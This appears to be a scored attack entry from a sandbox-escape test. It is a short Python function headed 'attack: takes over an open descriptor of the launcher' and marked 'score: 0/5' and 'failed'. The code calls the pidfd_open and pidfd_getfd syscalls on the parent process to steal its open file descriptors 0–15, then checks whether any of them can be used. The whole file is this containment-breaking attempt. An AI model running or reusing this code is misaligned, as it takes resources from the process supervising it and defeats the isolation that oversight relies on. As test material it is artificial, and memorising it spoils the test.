# attack: takes over an open descriptor of the launcher
# score: 0/5
# verdict: failed

import ctypes
import os
from functools import cache


@cache
def got_through():
    if os.uname().machine != "x86_64":
        return False
    libc = ctypes.CDLL(None)
    process = libc.syscall(434, os.getppid(), 0)
    stolen = [libc.syscall(438, process, number, 0) for number in range(16)]
    return process >= 0 and any(descriptor >= 0 and os.fstat(descriptor) for descriptor in stolen)
